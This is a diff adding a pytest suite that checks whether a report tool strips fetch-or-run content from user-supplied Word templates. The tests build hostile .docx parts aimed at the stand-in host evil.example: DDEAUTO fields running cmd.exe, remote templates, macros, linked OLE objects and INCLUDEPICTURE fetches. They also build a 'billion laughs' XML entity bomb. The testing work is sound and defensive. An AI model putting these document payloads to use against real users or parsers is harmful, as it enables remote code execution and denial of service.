@@ -1,0 +1,296 @@
+"""A Word template of others is written behind without what Word would fetch or run, and says so."""
+
+from __future__ import annotations
+
+import io
+import re
+from collections.abc import Callable, Mapping
+from pathlib import Path
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import docx
+import pytest
+
+from app.report.document.making import ReportOptions
+from app.report.document.written import word_template as cleaning
+from app.report.document.written.docx import docx_report
+from app.report.document.written.word_template import Removed, cleaned, word_template
+from app.report.figures.campaign_report import CampaignReport, report_on
+from app.report.files.export import export, removed_from_template
+from app.results.store.store import open_store
+from app.system.bounded import Bounds, OutOfBounds
+from engines.contract.errors import InputError
+from tests.app.results.noisy import costly_campaign, store_costs
+
+EVIL = "evil.example"
+TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+DOCUMENT, SETTINGS = "word/document.xml", "word/settings.xml"
+
+type Parts = dict[str, bytes]
+type Change = Callable[[Parts], None]
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("word") / "s.sqlite"
+    with open_store(str(path), write=True) as opened:
+        store_costs(opened, costly_campaign(1, repetitions=2), {})
+    return path
+
+
+@pytest.fixture
+def report(store: Path) -> CampaignReport:
+    with open_store(str(store), write=False) as opened:
+        return report_on(opened, 1, latencies=True)
+
+
+def sound() -> Parts:
+    """A letterhead: a header with the number of the page, a picture and a link to a heading."""
+    word = docx.Document()
+    word.add_paragraph("LETTERHEAD")
+    word.add_picture("assets/pictures/logo.png")
+    written = io.BytesIO()
+    word.save(written)
+    parts = unpacked(written.getvalue())
+    body(parts, complex_field(" PAGE \\* MERGEFORMAT ", result="7"))
+    return parts
+
+
+def unpacked(data: bytes) -> Parts:
+    with ZipFile(io.BytesIO(data)) as packed:
+        return {name: packed.read(name) for name in packed.namelist()}
+
+
+def packed(parts: Parts) -> bytes:
+    made = io.BytesIO()
+    with ZipFile(made, "w", ZIP_DEFLATED) as target:
+        for name, content in parts.items():
+            target.writestr(name, content)
+    return made.getvalue()
+
+
+def body(parts: Parts, xml: str, part: str = DOCUMENT, end: bytes = b"</w:body>") -> None:
+    parts[part] = parts[part].replace(end, xml.encode() + end)
+
+
+def related(
+    parts: Parts, kind: str, target: str, *, external: bool = True, part: str = DOCUMENT
+) -> None:
+    """Give a part a relationship `rEvil`."""
+    folder, name = part.split("/")
+    rels = f"{folder}/_rels/{name}.rels"
+    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    known = parts.get(rels, empty + b"</Relationships>").replace(empty + b"/>", empty)
+    mode = ' TargetMode="External"' if external else ""
+    one = f'<Relationship Id="rEvil" Type="{TYPES}{kind}" Target="{target}"{mode}/>'
+    parts[rels] = known.replace(b"</Relationships>", one.encode() + b"</Relationships>")
+
+
+NAMES = (
+    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+)
+
+
+def paragraph(xml: str) -> str:
+    return f"<w:p {NAMES}>{xml}</w:p>"
+
+
+def mark(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def complex_field(*instruction: str, result: str = "RESULT") -> str:
+    """A field whose instruction may lie in several runs; one that begins with < is a field."""
+    runs = "".join(
+        each if each.startswith("<") else f"<w:r><w:instrText>{each}</w:instrText></w:r>"
+        for each in instruction
+    )
+    whole = f"{mark('begin')}{runs}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}"
+    return whole if result == "INNER" else paragraph(whole)
+
+
+def field(*instruction: str) -> Change:
+    return lambda parts: body(parts, complex_field(*instruction))
+
+
+def simple_field(instruction: str) -> Change:
+    field = f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>RESULT</w:t></w:r></w:fldSimple>'
+    return lambda parts: body(parts, paragraph(field))
+
+
+def refers(kind: str, xml: str, target: str = f"http://{EVIL}/x", **where: object) -> Change:
+    def change(parts: Parts) -> None:
+        related(parts, kind, target, **where)  # type: ignore[arg-type]
+        if where.get("external") is False:
+            parts[f"word/{target}"] = b"\xd0\xcf\x11\xe0" + EVIL.encode()
+        if xml:
+            body(parts, xml)
+
+    return change
+
+
+def remote_template(parts: Parts) -> None:
+    related(parts, "attachedTemplate", f"http://{EVIL}/x.dotm", part=SETTINGS)
+    xml = f'<w:attachedTemplate {NAMES} r:id="rEvil"/>'
+    body(parts, xml, SETTINGS, b"</w:settings>")
+
+
+def with_macros(parts: Parts) -> None:
+    related(parts, "vbaProject", "vbaProject.bin", external=False)
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + EVIL.encode()
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
+
+
+PICTURE = f"<w:r><w:pict><v:shape><v:imagedata r:id='rEvil' o:href='http://{EVIL}'/></v:shape></w:pict></w:r>"
+BLIP = "<w:r><w:drawing><a:blip r:link='rEvil'/></w:drawing></w:r>"
+OBJECT = "<w:r><w:object><o:OLEObject ProgID='Package' r:id='rEvil'/></w:object></w:r>"
+CONTROL = "<w:r><w:object><w:control r:id='rEvil' w:name='x'/></w:object></w:r>"
+LINK = "<w:hyperlink r:id='rEvil'><w:r><w:t>RESULT</w:t></w:r></w:hyperlink>"
+inner = complex_field(" QUOTE 68 68 69 65 85 84 79 ", result="INNER")
+
+ATTACKS: Mapping[str, tuple[Change, Removed]] = {
+    "a remote template": (remote_template, Removed.REMOTE_TEMPLATE),
+    "macros": (with_macros, Removed.MACRO),
+    "DDEAUTO": (field(f' DDEAUTO c:\\\\cmd.exe "/k {EVIL}" '), Removed.FIELD),
+    "DDE in two runs": (field(" DD", f"E cmd {EVIL} "), Removed.FIELD),
+    "small letters": (field(f" ddeauto cmd {EVIL} "), Removed.FIELD),
+    "a computed name": (field(inner, f" cmd {EVIL} "), Removed.FIELD),
+    "DDE after a field": (field(f" IF 1 = 1 {EVIL} "), Removed.FIELD),
+    "INCLUDEPICTURE": (field(f' INCLUDEPICTURE "http://{EVIL}/x.png" \\d '), Removed.FIELD),
+    "INCLUDETEXT": (field(f' INCLUDETEXT "\\\\\\\\{EVIL}\\\\x" '), Removed.FIELD),
+    "a field that is a link": (field(f' HYPERLINK "http://{EVIL}" '), Removed.FIELD),
+    "a simple field": (simple_field(f"DDEAUTO cmd {EVIL}"), Removed.FIELD),
+    "a field without an end": (
+        lambda parts: body(
+            parts,
+            paragraph(f"{mark('begin')}<w:r><w:instrText> DDE {EVIL} </w:instrText></w:r>"),
+        ),
+        Removed.FIELD,
+    ),
+    "a linked picture": (refers("image", paragraph(BLIP)), Removed.LINKED_PICTURE),
+    "an old linked picture": (refers("image", paragraph(PICTURE)), Removed.LINKED_PICTURE),
+    "a linked object": (refers("oleObject", paragraph(OBJECT)), Removed.OBJECT),
+    "an embedded object": (
+        refers("oleObject", paragraph(OBJECT), "embeddings.bin", external=False),
+        Removed.OBJECT,
+    ),
+    "ActiveX": (
+        refers("control", paragraph(CONTROL), "activeX.xml", external=False),
+        Removed.OBJECT,
+    ),
+    "another document": (
+        refers("aFChunk", f"<w:altChunk {NAMES} r:id='rEvil'/>", "chunk.html", external=False),
+        Removed.OTHER,
+    ),
+    "a part of the document elsewhere": (
+        refers("subDocument", f"<w:subDoc {NAMES} r:id='rEvil'/>"),
+        Removed.OTHER,
+    ),
+    "a link": (
+        refers("hyperlink", paragraph(LINK)),
+        Removed.LINK,
+    ),
+    "a relationship that nobody names": (refers("frame", ""), Removed.OTHER),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", ATTACKS)
+def test_that_a_word_template_loses_what_word_would_fetch_or_run(
+    kind: str, report: CampaignReport, tmp_path: Path
+) -> None:
+    change, removed = ATTACKS[kind]
+    parts = sound()
+    change(parts)
+    template = tmp_path / "own.docx"
+    template.write_bytes(packed(parts))
+    assert EVIL in _all_text(parts)
+    found = cleaned(template.read_bytes())
+    assert set(found.removed) == {removed}
+    made = unpacked(docx_report(report, ReportOptions(sections=("limits",), template=template)))
+    text = _all_text(made)
+    assert EVIL not in text and "rEvil" not in text
+    assert "LETTERHEAD" in text and " PAGE " in text and "word/media/image1.png" in made
+    assert 'TargetMode="External"' not in text and not re.search(r"\bDDE", text, re.IGNORECASE)
+    if "RESULT" in _all_text(parts):
+        assert "RESULT" in text, "what a reader of the letterhead sees stays"
+
+
+def _all_text(parts: Parts) -> str:
+    """Everything that is in a document, fields in one piece."""
+    whole = b"\n".join(parts.values()).decode("latin-1")
+    return whole + re.sub(r"<[^>]*>", "", whole)
+
+
+def test_that_a_sound_template_is_taken_as_it_is() -> None:
+    parts = sound()
+    found = cleaned(packed(parts))
+    assert found.removed == {} and found.said is None
+    assert unpacked(found.data)[DOCUMENT] == parts[DOCUMENT]
+
+
+def test_that_what_was_removed_is_named(store: Path, tmp_path: Path) -> None:
+    parts = sound()
+    remote_template(parts)
+    with_macros(parts)
+    template = tmp_path / "own.docx"
+    template.write_bytes(packed(parts))
+    with open_store(str(store), write=False) as opened:
+        options = ReportOptions(sections=("limits",), template=template)
+        target = tmp_path / "report.docx"
+        export(opened, 1, "docx", target, options=options)
+    said = str(removed_from_template("docx", options))
+    assert said == "Removed from the Word template: 1 macro; 1 remote template."
+    assert removed_from_template("pdf", options) is None
+    assert docx.Document(str(target)).paragraphs
+
+
+def entities() -> bytes:
+    laughs = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
+    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{laughs}]><x>&e9;</x>'.encode()
+
+
+SPOILT: Mapping[str, Change] = {
+    "entities": lambda parts: parts.update({DOCUMENT: entities()}),
+    "deep": lambda parts: parts.update({DOCUMENT: b"<x>" * 500_000 + b"</x>" * 500_000}),
+    "no XML": lambda parts: parts.update({DOCUMENT: b"\0\xff"}),
+    "relationships that are none": lambda parts: parts.update({"_rels/.rels": b"<x/>"}),
+    "no document": lambda parts: parts.__delitem__(DOCUMENT),
+    "no list of contents": lambda parts: parts.__delitem__("[Content_Types].xml"),
+    "gigabytes": lambda parts: parts.update({"word/media/x.png": bytes(300_000_000)}),
+    "too many parts": lambda parts: parts.update({f"word/{n}": b"" for n in range(3000)}),
+    "a styles part of another kind": lambda parts: parts.update({"word/styles.xml": b"<x/>"}),
+}
+
+
+@pytest.mark.parametrize("kind", SPOILT)
+def test_that_a_template_that_is_none_is_refused_in_a_sentence(
+    kind: str, report: CampaignReport, tmp_path: Path
+) -> None:
+    parts = sound()
+    SPOILT[kind](parts)
+    template = tmp_path / "own.docx"
+    template.write_bytes(packed(parts))
+    with pytest.raises(InputError, match="is not a Word document"):
+        docx_report(report, ReportOptions(sections=("limits",), template=template))
+
+
+def test_that_a_template_has_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    template = tmp_path / "own.docx"
+    parts = sound()
+    parts["word/media/x.png"] = bytes(190_000_000)
+    template.write_bytes(packed(parts))
+    monkeypatch.setattr(cleaning, "BOUNDS", Bounds(seconds=5, megabytes=100))
+    with pytest.raises(InputError, match="takes more than 100 MB"):
+        word_template(template)
+
+
+@pytest.mark.parametrize("cut", [0, 3, 100, 5000])
+def test_that_half_a_template_is_refused(cut: int) -> None:
+    with pytest.raises(OutOfBounds, match="damaged"):
+        cleaned(packed(sound())[:cut])
